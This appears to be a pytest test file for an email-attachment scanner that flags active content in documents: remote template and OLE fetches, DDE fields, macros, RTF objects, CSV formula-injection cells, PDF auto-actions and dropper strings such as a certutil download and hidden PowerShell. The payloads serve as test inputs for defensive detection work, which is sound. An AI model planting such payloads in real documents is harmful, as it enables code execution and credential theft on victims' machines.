"""Documents that can act: Office files new and old, rich text, tables, PDFs, Outlook messages."""

import pytest

from quietledger.pure.mailsigns import attachments, reader
from quietledger.pure.mailsigns.shapes import Severity
from tests.pure.mailsigns import carriers
from tests.pure.mailsigns.carriers import document, message

BYTES = "application/octet-stream"
RELATION = '<Relationship Id="r1" Type="http://types.test/{kind}" Target="{target}" TargetMode="{mode}"/>'


def found(name, body, declared=BYTES):
    return attachments.signs(reader.read_message(message((name, declared, body))))


def marked(name, body, content):
    """(sign, the words at its place) of signs that stand in `content`, the bytes of a file inside."""
    signs, _unchecked = found(name, body)
    return [(sign.id, content[sign.place.start : sign.place.end]) for sign in signs if sign.place.end]


def relations(kind, target, mode="External"):
    text = RELATION.format(kind=kind, target=target, mode=mode)
    return text, document(**{"word/_rels/settings.xml.rels": f"<Relationships>{text}</Relationships>"})


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument"])
def test_what_a_document_fetches_from_elsewhere_is_marked(kind):
    text, body = relations(kind, "https://collect.test/t.dotm")
    content = f"<Relationships>{text}</Relationships>".encode()
    assert marked("a.docx", body, content) == [("A6", text.encode())]


def test_a_picture_on_another_machine_gives_the_password_away():
    _text, body = relations("image", r"file:///\\collect.test\p.png")
    assert [sign.id for sign in found("a.docx", body)[0]] == ["A6"]


@pytest.mark.parametrize(
    ("kind", "target", "mode"),
    [("hyperlink", "https://a.test/", "External"), ("attachedTemplate", "templates/own.dotx", "Internal")],
)
def test_ordinary_relations_show_nothing(kind, target, mode):
    assert found("a.docx", relations(kind, target, mode)[1])[0] == ()


def test_a_field_that_starts_a_program_is_seen_though_it_is_cut_into_pieces():
    text = "<w:instrText>DDE</w:instrText><w:t>x</w:t><w:instrText>AUTO calc</w:instrText>"
    signs, _unchecked = found("a.docx", document(**{"word/document2.xml": text}))
    assert [(sign.id, sign.place.of) for sign in signs] == [("A6", "/word/document2.xml")]


@pytest.mark.parametrize(
    "path", ["xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "word/activeX/activeX1.bin", "word/VBAPROJECT.BIN"]
)
def test_macros_in_a_document_are_seen_by_where_they_lie(path):
    signs, _unchecked = found("a.xlsx", document(**{path: "a stub"}))
    assert [(sign.id, sign.place.of) for sign in signs] == [("A6", f"/{path}")]


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (carriers.TEMPLATE_RTF, rb"\*\template https://collect.test/t.dotm"),
        (rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", rb"\objdata"),
        (rb"{\rtf1{\object\objupdate}}", rb"\objupdate"),
    ],
)
def test_rich_text_that_fetches_or_holds_objects_is_marked(body, words):
    assert ("A6", words) in marked("a.rtf", body, body)


@pytest.mark.parametrize("cell", ["=cmd|'/c calc'!A1", "@cmd|' /c calc'!A0", "+powershell|'x'!A1"])
def test_a_cell_that_starts_a_program_is_marked(cell):
    body = f"check,amount\r\n{cell},2\r\n".encode()
    [(sign, words)] = marked("a.csv", body, body)
    assert sign == "A6"
    assert cell.encode().startswith(words.strip(b", \t\"'\r\n"))


@pytest.mark.parametrize("table", [b"a,b\n-12.50,=SUM(A1:A2)\n", b"a|b\ncmd,-3\n"])
def test_ordinary_tables_show_nothing(table):
    assert found("a.csv", table)[0] == ()


@pytest.mark.parametrize("action", ["JavaScript", "Launch", "SubmitForm", "URI"])
def test_a_pdf_that_acts_when_it_opens_is_shown_at_its_words(action):
    body = carriers.pdf(action={"/S": carriers.Name(f"/{action}"), "/URI": "https://collect.test"})
    signs, _unchecked = found("a.pdf", body)
    assert [(sign.id, sign.severity) for sign in signs] == [("A7", Severity.SHOW)]
    assert body[signs[0].place.start : signs[0].place.end] == b"/OpenAction"


def test_a_file_inside_a_pdf_is_judged_like_an_attachment():
    signs, _unchecked = found("a.pdf", carriers.pdf(carried=("run.exe", carriers.PROGRAM)))
    assert {("A7", ""), ("A1", "/run.exe"), ("A1", "name of /run.exe")} == {(sign.id, sign.place.of) for sign in signs}


def test_one_page_with_one_link_is_shown_and_ordinary_papers_with_links_are_not():
    assert "A7" in {sign.id for sign in found("a.pdf", carriers.pdf(links=["https://a.test/"]))[0]}
    two = carriers.pdf(links=["https://a.test/"], pages=2)
    assert "A7" not in {sign.id for sign in found("a.pdf", two)[0]}


def test_links_in_a_pdf_are_judged_like_any_link():
    signs, _unchecked = found(
        "a.pdf", carriers.pdf(links=["http://paperlark.example@198.51.100.23:8081/x", "https://b.test/"], pages=2)
    )
    assert "L5" in {sign.id for sign in signs}


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (b"x = new ActiveXObject('WScript.Shell'); x.Run('nothing')", "a script that fetches a program or runs one"),
        (b"powershell -w hidden -nop nothing", "a PowerShell line that hides"),
        (b"certutil -urlcache -f https://a.test/x x.exe", "misuses a tool of the system"),
        (b"\xff\xd8\xff\xe0 picture, then This program cannot be run in DOS mode", "a program inside another file"),
    ],
)
def test_our_rules_find_droppers_with_their_offsets(body, said):
    signs, _unchecked = found("notes.dat", body)
    hits = [sign for sign in signs if said in sign.evidence]
    assert hits
    assert all(0 <= hit.place.start < hit.place.end <= len(body) for hit in hits)
